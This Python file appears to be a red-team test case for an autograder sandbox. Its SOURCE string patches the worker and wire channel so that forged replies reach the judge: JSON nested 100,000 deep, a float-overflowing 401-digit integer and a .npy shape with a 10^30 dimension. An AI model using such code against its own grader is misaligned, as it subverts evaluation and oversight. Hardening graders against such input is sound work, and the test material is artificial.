ATTACK = (
    "Take over the worker's side of the wire and send hand-made replies: JSON nested 100,000 deep, an integer "
    "too large for a float where a float is expected, and an empty .npy array whose shape has a 10^30 dimension."
)
MODULE = "training"
SOURCE = r'''
import struct as _struct
import sys as _sys

_wire, _worker = _sys.modules["autograder.sandbox.wire"], _sys.modules["autograder.sandbox.worker"]
_real_answer, _real_send = _worker._answer, _wire.Channel.send


class _Raw(bytes):
    """A reply already encoded by hand: sent as it is."""


def _npy(shape):
    header = repr({"descr": "<f8", "fortran_order": False, "shape": shape}).encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + _struct.pack("<H", len(header)) + header


def _forged(submission, request):
    op = request.get("op")
    if op == "build_mlp":  # the judge's json.loads recurses once per level
        header = b'{"body": {"result": ' + b"[" * 100_000 + b"]" * 100_000 + b'}, "arrays": 0}'
        return _Raw(_struct.pack(">I", len(header)) + header)
    if op == "measure":  # json carries a 401-digit integer; the judge's float() of it overflows
        empty = {"modules": [], "weights": [], "biases": [], "weight_dtypes": [], "gradients_set": []}
        return {"result": {"values": [10**400], **empty}}
    if op == "train":  # zero numbers, so under every cap, but no array can have this shape
        header = b'{"body": {"result": {"__array__": 0}}, "arrays": 1}'
        array = _npy((0, 10**30))
        return _Raw(_struct.pack(">I", len(header)) + header + _struct.pack(">Q", len(array)) + array)
    return _real_answer(submission, request)


def _send(self, body, *, timeout=None):
    if isinstance(body, _Raw):
        self._sock.settimeout(timeout)
        self._sock.sendall(body)
    else:
        _real_send(self, body, timeout=timeout)


_worker._answer, _wire.Channel.send = _forged, _send
'''
